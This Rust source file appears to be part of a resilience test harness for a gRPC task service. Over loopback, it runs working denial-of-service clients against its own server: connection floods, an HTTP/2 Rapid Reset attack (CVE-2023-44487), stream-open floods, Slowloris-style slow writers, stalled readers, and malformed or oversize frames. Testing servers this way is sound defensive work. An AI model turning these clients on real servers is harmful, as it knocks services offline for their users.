//! Bad clients: each runs until it is dropped, from this process, over loopback.

use std::net::SocketAddr;
use std::time::Duration;

use hive_proto::v1;
use hive_sdk::Client;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use crate::fault::Kind;

/// RFC 9113, section 3.4, and empty SETTINGS.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";

/// Connections held open by the flood, and by each kind of slow one.
const HELD: usize = 3_000;
const SLOW: usize = 200;
const BEGUN: u32 = 256;

/// Begins an attack of this kind.
pub(crate) fn begin(kind: Kind, server: SocketAddr) -> JoinSet<()> {
    let mut all = JoinSet::new();
    match kind {
        Kind::ConnectionFlood => {
            for number in 0..4 {
                all.spawn(connections(server, number % 2 == 0));
            }
        }
        Kind::ResetFlood => {
            for _ in 0..4 {
                all.spawn(resets(server));
            }
        }
        Kind::OpenFlood => {
            for _ in 0..16 {
                all.spawn(begun(server));
            }
        }
        Kind::SlowLoris => {
            for number in 0..3 * SLOW {
                all.spawn(slow(server, number % 3));
            }
        }
        Kind::StalledReaders => {
            for _ in 0..16 {
                all.spawn(unread(server));
            }
        }
        _ => {
            all.spawn(nonsense(server));
            all.spawn(oversize(server));
        }
    }
    all
}

/// A frame of HTTP/2.
fn frame(kind: u8, flags: u8, stream: u32, body: &[u8]) -> Vec<u8> {
    let length = u32::try_from(body.len()).expect("a small frame").to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(body);
    bytes
}

/// HEADERS of a call, without compression of any kind (RFC 7541, section 6.2.2).
fn headers(stream: u32, path: &str, end: bool) -> Vec<u8> {
    let mut block = vec![0x83, 0x86];
    let mut text = |prefix: &[u8], value: &str| {
        block.extend(prefix);
        block.push(u8::try_from(value.len()).expect("a short text"));
        block.extend(value.as_bytes());
    };
    text(&[0x04], path);
    text(&[0x01], "localhost");
    text(&[0x0f, 0x10], "application/grpc");
    text(&[0x00, 0x02, b't', b'e'], "trailers");
    frame(1, 0x4 | u8::from(end), stream, &block)
}

const GET: &str = "/hive.v1.TaskService/GetTask";
const SUBMIT: &str = "/hive.v1.TaskService/SubmitTask";

async fn rest() {
    tokio::time::sleep(Duration::from_millis(2)).await;
}

/// Opens connections as fast as it can and keeps them; silent ones, or ones that only say hello.
async fn connections(server: SocketAddr, silent: bool) {
    let mut held = std::collections::VecDeque::new();
    loop {
        match tokio::time::timeout(Duration::from_secs(1), TcpStream::connect(server)).await {
            Ok(Ok(mut stream)) => {
                if !silent {
                    let _gone = stream.write_all(PREFACE).await;
                }
                held.push_back(stream);
            }
            _ => rest().await,
        }
        if held.len() > HELD / 4 {
            drop(held.pop_front());
        }
    }
}

/// CVE-2023-44487: begins a call and resets it, over and over.
async fn resets(server: SocketAddr) {
    loop {
        rest().await;
        let Ok(stream) = TcpStream::connect(server).await else { continue };
        let (mut read, mut write) = stream.into_split();
        let send = async {
            write.write_all(PREFACE).await?;
            for batch in 0..10_000_u32 {
                let mut bytes = Vec::new();
                for call in 0..100 {
                    let id = (batch * 100 + call) * 2 + 1;
                    bytes.extend(headers(id, GET, true));
                    bytes.extend(frame(3, 0, id, &[0, 0, 0, 8]));
                }
                write.write_all(&bytes).await?;
                tokio::task::yield_now().await;
            }
            std::io::Result::Ok(())
        };
        let mut sink = vec![0; 64 << 10];
        let drain = async { while read.read(&mut sink).await.is_ok_and(|count| count > 0) {} };
        tokio::select! { _ = send => {}, () = drain => {} }
    }
}

/// Begins as many calls as a connection may have and never sends what they are about.
async fn begun(server: SocketAddr) {
    loop {
        rest().await;
        let Ok(mut stream) = TcpStream::connect(server).await else { continue };
        let mut bytes = PREFACE.to_vec();
        for call in 0..BEGUN {
            bytes.extend(headers(call * 2 + 1, SUBMIT, false));
        }
        let _gone = stream.write_all(&bytes).await;
        let mut sink = vec![0; 4 << 10];
        while stream.read(&mut sink).await.is_ok_and(|count| count > 0) {}
    }
}

/// A byte a second: of the preface, of a frame of headers, or of a message.
async fn slow(server: SocketAddr, which: usize) {
    let all = match which {
        0 => PREFACE.to_vec(),
        1 => headers(1, GET, true),
        _ => frame(0, 0, 1, &[0, 0, 1, 0, 0]),
    };
    loop {
        rest().await;
        let Ok(mut stream) = TcpStream::connect(server).await else { continue };
        let before = match which {
            0 => Vec::new(),
            1 => PREFACE.to_vec(),
            _ => [PREFACE, &headers(1, SUBMIT, false)].concat(),
        };
        if stream.write_all(&before).await.is_err() {
            continue;
        }
        for byte in all.iter().cycle().take(3_600) {
            if stream.write_all(&[*byte]).await.is_err() {
                break;
            }
            tokio::time::sleep(Duration::from_secs(1)).await;
        }
    }
}

/// Watches everything and reads nothing.
async fn unread(server: SocketAddr) {
    let endpoint = tonic::transport::Endpoint::from_shared(format!("http://{server}")).expect("an endpoint");
    let channel = endpoint.initial_stream_window_size(65_535).connect_lazy();
    let mut client = v1::task_service_client::TaskServiceClient::new(channel);
    let mut held = Vec::new();
    loop {
        if held.len() < 8
            && let Ok(watch) = client.watch_tasks(v1::WatchTasksRequest::default()).await
        {
            held.push(watch);
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

/// Bytes that are no HTTP/2, or none after its preface.
async fn nonsense(server: SocketAddr) {
    let noise: Vec<u8> = (0..4_096_u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    let broken = frame(1, 0x5, 1, &noise[..200]);
    let huge = [&[0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 1][..], &noise].concat();
    let http1 = b"POST /x HTTP/1.1\r\nhost: x\r\ncontent-length: 99999999\r\n\r\n".to_vec();
    let texts =
        [noise.clone(), [PREFACE, &noise].concat(), [PREFACE, &broken].concat(), [PREFACE, &huge].concat(), http1];
    for text in texts.iter().cycle() {
        rest().await;
        let Ok(mut stream) = TcpStream::connect(server).await else { continue };
        let _reset = stream.write_all(text).await;
        let mut sink = vec![0; 4 << 10];
        let _answer = tokio::time::timeout(Duration::from_millis(200), stream.read(&mut sink)).await;
    }
}

/// Calls whose messages are too large, or say what cannot be.
async fn oversize(server: SocketAddr) {
    let client = Client::builder().endpoint(format!("http://{server}")).connect_lazy().expect("an endpoint");
    let submit = |bytes: usize, capabilities: usize| v1::SubmitTaskRequest {
        spec: Some(v1::TaskSpec {
            capabilities: vec!["x".repeat(capabilities); capabilities],
            payload: Some(v1::Payload { data: vec![0; bytes].into(), ..Default::default() }),
            ..Default::default()
        }),
        task_id: "not an id".to_owned(),
        ..Default::default()
    };
    loop {
        for request in [submit(5 << 20, 1), submit(300 << 10, 1), submit(1, 2_000), submit(0, 0)] {
            let _refused = tokio::time::timeout(Duration::from_secs(2), client.tasks().submit_task(request)).await;
        }
        rest().await;
    }
}
